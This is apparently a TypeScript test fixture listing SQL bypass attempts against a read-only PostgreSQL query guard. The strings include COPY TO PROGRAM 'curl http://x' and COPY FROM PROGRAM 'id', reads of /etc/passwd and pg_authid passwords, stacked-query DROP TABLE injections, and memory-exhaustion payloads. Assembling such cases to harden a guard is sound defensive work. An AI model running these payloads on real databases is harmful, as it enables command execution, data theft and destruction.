// Further statements of published bypass classes, as whoever does not know this guard would try them. None is a read, whatever it looks like.

const HARM = [
  "pg_sleep(1)",
  'pg_catalog."pg_sleep"(1)',
  'U&"pg\\005fsleep"(1)',
  "set_config('transaction_read_only', 'off', true)",
  "lo_import('/etc/passwd')",
] as const;

/** Where an expression may hide that nobody looks for. */
const PLACES: readonly ((call: string) => string)[] = [
  (f) => `SELECT * FROM t TABLESAMPLE BERNOULLI (1) REPEATABLE ((SELECT 1 FROM ${f}))`,
  (f) => `SELECT 1 FROM t ORDER BY a FETCH FIRST (SELECT 1 FROM ${f}) ROWS WITH TIES`,
  (f) => `SELECT 1 OFFSET (SELECT count(*) FROM ${f}) ROWS`,
  (f) => `SELECT sum(a) OVER (ORDER BY a ROWS BETWEEN (SELECT 1 FROM ${f}) PRECEDING AND CURRENT ROW) FROM t`,
  (f) => `SELECT sum(a) FILTER (WHERE ${f} IS NULL) FROM t`,
  (f) => `SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY (SELECT 1 FROM ${f})) FROM t`,
  (f) => `SELECT sum(a) OVER w FROM t WINDOW w AS (PARTITION BY ${f} IS NULL)`,
  (f) => `SELECT 1 FROM t GROUP BY GROUPING SETS ((a), (${f}))`,
  (f) => `SELECT 1 FROM t GROUP BY CUBE (a, ROLLUP (${f}))`,
  (f) => `SELECT DISTINCT ON (${f} IS NULL) a FROM t`,
  (f) => `SELECT a FROM t ORDER BY ${f} IS NULL NULLS FIRST`,
  (f) => `SELECT * FROM ROWS FROM (generate_series(1, 2), ${f}) AS x`,
  (f) => `SELECT * FROM t, LATERAL (SELECT ${f}) x`,
  (f) => `SELECT * FROM t LEFT JOIN LATERAL ${f} AS y ON true`,
  (f) => `SELECT (ARRAY[1, 2])[(SELECT 1 FROM ${f})]`,
  (f) => `SELECT (ARRAY[1, 2])[1:(SELECT 2 FROM ${f})]`,
  (f) => `SELECT ARRAY(SELECT ${f})`,
  (f) => `SELECT ROW(${f}) IS NULL`,
  (f) => `SELECT (1, ${f}) = (1, NULL)`,
  (f) => `SELECT 1 = ANY (SELECT 1 FROM ${f})`,
  (f) => `SELECT 'a' LIKE 'b' ESCAPE (SELECT 'c' FROM ${f})`,
  (f) => `SELECT 1 BETWEEN SYMMETRIC 0 AND (SELECT 1 FROM ${f})`,
  (f) => `SELECT (now(), (SELECT now() FROM ${f})) OVERLAPS (now(), now())`,
  (f) => `SELECT now() AT TIME ZONE (SELECT 'UTC' FROM ${f})`,
  (f) => `SELECT EXTRACT(epoch FROM (SELECT now() FROM ${f}))`,
  (f) => `SELECT SUBSTRING('a' FROM (SELECT 1 FROM ${f}) FOR 1)`,
  (f) => `SELECT COALESCE(NULL, NULLIF(1, (SELECT 1 FROM ${f})))`,
  (f) => `SELECT CASE (SELECT 1 FROM ${f}) WHEN 1 THEN 2 END`,
  (f) => `SELECT make_date(year => 2024, month => 1, day => (SELECT 1 FROM ${f}))`,
  (f) => `SELECT concat(VARIADIC ARRAY(SELECT 'a' FROM ${f}))`,
  (f) => `SELECT XMLELEMENT(NAME a, XMLATTRIBUTES((SELECT 1 FROM ${f}) AS b))`,
  (f) => `SELECT XMLFOREST((SELECT 1 FROM ${f}) AS a)`,
  (f) => `SELECT * FROM XMLTABLE('/a' PASSING (SELECT '<a/>'::xml FROM ${f}) COLUMNS b text)`,
  (f) => `SELECT * FROM XMLTABLE('/a' PASSING ('<a/>'::xml) COLUMNS b text DEFAULT ((SELECT 'x' FROM ${f})))`,
  (f) => `SELECT * FROM JSON_TABLE('[]'::jsonb, '$' PASSING (SELECT 1 FROM ${f}) AS x COLUMNS (a int PATH '$'))`,
  (f) => `SELECT JSON_VALUE('{}'::jsonb, '$.a' DEFAULT (SELECT 'x' FROM ${f}) ON EMPTY)`,
  (f) => `SELECT JSON_OBJECT('a': (SELECT 1 FROM ${f}))`,
  (f) => `SELECT JSON_ARRAYAGG((SELECT 1 FROM ${f}))`,
  (f) => `VALUES (1), ((SELECT 1 FROM ${f}))`,
  (f) => `WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT 2 FROM ${f}) SELECT * FROM r`,
  (f) => `WITH x AS NOT MATERIALIZED (SELECT ${f}) SELECT 1`,
  (f) => `(SELECT 1) EXCEPT ALL (SELECT 1 FROM ${f})`,
  (f) => `EXPLAIN (GENERIC_PLAN) SELECT ${f}`,
];

const STATEMENTS = `
ALTER SYSTEM SET work_mem = '1GB'
ALTER DATABASE client SET default_transaction_read_only = off
ALTER ROLE ALL SET role = 'postgres'
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC
ALTER EVENT TRIGGER e DISABLE
ALTER EXTENSION hstore UPDATE
ALTER LARGE OBJECT 1 OWNER TO r
ALTER SUBSCRIPTION s REFRESH PUBLICATION
CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p
CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f()
CREATE STATISTICS s ON a, b FROM t
CREATE TRANSFORM FOR int LANGUAGE sql (FROM SQL WITH FUNCTION f(internal))
CREATE ACCESS METHOD m TYPE TABLE HANDLER h
CREATE USER MAPPING FOR PUBLIC SERVER s OPTIONS (password 'x')
CREATE CONVERSION c FOR 'UTF8' TO 'LATIN1' FROM f
CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT * FROM u
CREATE TABLESPACE s LOCATION '/tmp'
IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y
SECURITY LABEL ON TABLE t IS 'x'
COMMENT ON TABLE t IS 'x'
REASSIGN OWNED BY a TO b
DROP OWNED BY a CASCADE
DISCARD TEMP
DISCARD PLANS
CHECKPOINT
LOAD '$libdir/x'
CLUSTER t USING i
VACUUM (FULL, ANALYZE) t
REINDEX (CONCURRENTLY) TABLE t
REFRESH MATERIALIZED VIEW CONCURRENTLY m
COPY t TO PROGRAM 'curl http://x'
COPY (SELECT * FROM t) TO '/tmp/x'
COPY (DELETE FROM t RETURNING *) TO STDOUT
COPY t FROM PROGRAM 'id'
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t
DECLARE c BINARY INSENSITIVE SCROLL CURSOR FOR SELECT 1
FETCH ALL FROM c
MOVE FORWARD 1 FROM c
CLOSE ALL
PREPARE p (int) AS DELETE FROM t WHERE a = $1
PREPARE p AS SELECT 1
EXECUTE p (1)
DEALLOCATE ALL
LISTEN c
UNLISTEN *
NOTIFY c, 'x'
SET LOCAL ROLE postgres
SET SESSION AUTHORIZATION DEFAULT
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
SET TRANSACTION SNAPSHOT '00000003-1'
SET CONSTRAINTS ALL DEFERRED
SET TIME ZONE 'UTC'
RESET SESSION AUTHORIZATION
BEGIN ISOLATION LEVEL SERIALIZABLE READ WRITE DEFERRABLE
START TRANSACTION READ WRITE
ABORT
END AND CHAIN
ROLLBACK TO SAVEPOINT s
RELEASE SAVEPOINT s
PREPARE TRANSACTION 'x'
COMMIT PREPARED 'x'
ROLLBACK PREPARED 'x'
LOCK TABLE ONLY t IN SHARE ROW EXCLUSIVE MODE NOWAIT
MERGE INTO t USING u ON t.a = u.a WHEN NOT MATCHED BY SOURCE THEN DELETE
WITH x AS (MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM x
WITH x AS (INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING RETURNING *) TABLE x
WITH x AS (SELECT 1), y AS (UPDATE t SET a = 1 RETURNING a) SELECT 1
SELECT * FROM (SELECT * FROM t FOR NO KEY UPDATE) x
SELECT * FROM t FOR KEY SHARE OF t SKIP LOCKED
SELECT 1 INTO UNLOGGED x
SELECT * INTO TEMP TABLE x FROM t
TABLE t FOR UPDATE
(SELECT 1 FROM t FOR SHARE) UNION SELECT 2
EXPLAIN (ANALYZE false, ANALYZE true) SELECT 1
EXPLAIN (ANALYZE 1) SELECT 1
EXPLAIN (ANALYSE) SELECT 1
EXPLAIN VERBOSE ANALYZE SELECT 1
EXPLAIN ANALYZE VERBOSE DELETE FROM t
EXPLAIN (SERIALIZE TEXT, ANALYZE) SELECT 1
EXPLAIN EXECUTE p
EXPLAIN DECLARE c CURSOR FOR SELECT 1
EXPLAIN CREATE TABLE x AS SELECT 1
EXPLAIN REFRESH MATERIALIZED VIEW m
EXPLAIN (TIMING) SELECT 1
CREATE TABLE x AS EXECUTE p
SELECT currtid2('t', '(0,1)')
SELECT pg_read_binary_file('pg_hba.conf')
SELECT pg_ls_archive_statusdir()
SELECT * FROM pg_logical_slot_peek_changes('s', NULL, NULL)
SELECT pg_replication_origin_session_setup('o')
SELECT pg_log_backend_memory_contexts(1)
SELECT pg_stat_reset_shared('bgwriter')
SELECT pg_export_snapshot()
SELECT binary_upgrade_set_next_pg_type_oid(1)
SELECT binary_upgrade_create_empty_extension('x', 'y', true, 'z', NULL, NULL, NULL)
SELECT pg_import_system_collations('pg_catalog')
SELECT pg_restore_relation_stats('schemaname', 'shop')
SELECT gin_clean_pending_list('i')
SELECT brin_summarize_range('i', 0)
SELECT query_to_xmlschema('DELETE FROM t', true, true, '')
SELECT cursor_to_xml('c', 1, true, true, '')
SELECT database_to_xml_and_xmlschema(true, true, '')
SELECT ts_stat('SELECT pg_sleep(1)')
SELECT ts_rewrite('a'::tsquery, 'SELECT pg_sleep(1)')
SELECT setval('s', 1), currval('s')
SELECT lastval()
SELECT txid_current()
SELECT lo_put(1, 0, 'x')
SELECT loread(lo_open(1, 131072), 10)
SELECT lowrite(0, 'x')
SELECT dblink_send_query('c', 'DELETE FROM t')
SELECT * FROM crosstab('DELETE FROM t RETURNING *') AS x(a int)
SELECT xpath_table('a', 'b', 'pg_sleep(1)', '/', '1=1')
SELECT plpgsql_call_handler()
SELECT has_table_privilege('t', 'SELECT'), pg_advisory_xact_lock(1)
SELECT pg_try_advisory_lock_shared(1, 2)
SELECT * FROM pg_hba_file_rules
SELECT * FROM information_schema.user_mapping_options
SELECT rolpassword FROM pg_catalog.pg_authid
SELECT * FROM pg_largeobject
SELECT * FROM pg_toast.pg_toast_1
SELECT stavalues1 FROM pg_statistic
SELECT subconninfo FROM pg_subscription
SELECT * FROM pg_stats_ext_exprs
SELECT * FROM ONLY pg_catalog.pg_user_mappings
SELECT * FROM client.shop.customers
SELECT current_setting('app.secret')
SELECT current_setting('app' || '.secret')
SELECT current_setting(a) FROM t
SHOW app.secret
SELECT '(0,1)'::pg_catalog.no_such_type
SELECT $1
SELECT 1 OPERATOR(shop.+) 2
SELECT shop.f(1)
SELECT repeat(repeat('a', 1000000), 1000001)
SELECT array_fill(1, ARRAY[100000, 100000])
SELECT format('%1000000000s', 'a')
SELECT format('%*s', 1000000000, 'a')
SELECT 'a'::char(100000000)
SELECT lpad('a', 10 ^ 9)
SELECT 1; SELECT 2
SELECT 1;;DROP TABLE t
SELECT E'\\'; DROP TABLE t; --'; DELETE FROM t
SELECT '\\'; DROP TABLE t; --'
SELECT $a$ $b$; $a$; DROP TABLE t; -- $b$
/* /* */ SELECT 1; */ DROP TABLE t
-- SELECT 1
SELECT (0.5::float8).pg_sleep
SELECT ('shop.s'::regclass).nextval
SELECT (4242::oid).lo_unlink
SELECT (42::bigint).pg_advisory_lock
SELECT ('/etc/passwd'::text).pg_read_file
SELECT (('/etc/passwd'::text).pg_read_file).length
SELECT x.pg_advisory_lock FROM generate_series(42::bigint, 43) AS x
SELECT (x).pg_advisory_lock FROM (SELECT 42::bigint AS x) y
SELECT (y.x).pg_advisory_lock FROM (SELECT 42::bigint AS x) y
SELECT (array[42::bigint])[1].pg_advisory_lock
SELECT (SELECT 42::bigint).pg_advisory_lock
SELECT 1 WHERE (42::bigint).pg_try_advisory_lock
SELECT (pg_backend_pid()).pg_terminate_backend
SELECT satisfies_hash_partition('shop.parts'::regclass, 4, 1, 7)
SELECT 1 \\; DROP TABLE t
\\copy t to '/tmp/x'
SELECT 1 \\gexec
`
  .trim()
  .split("\n");

export const PUBLISHED: readonly string[] = [
  ...PLACES.flatMap((place) => HARM.map(place)),
  ...STATEMENTS,
  ...STATEMENTS.filter((sql) => /^[A-Z]/.test(sql) && !/^(?:SELECT|EXPLAIN|SHOW|WITH|TABLE|VALUES)/.test(sql)).map(
    (sql) => `/* SELECT */ -- SELECT 1\n${sql}`,
  ),
];
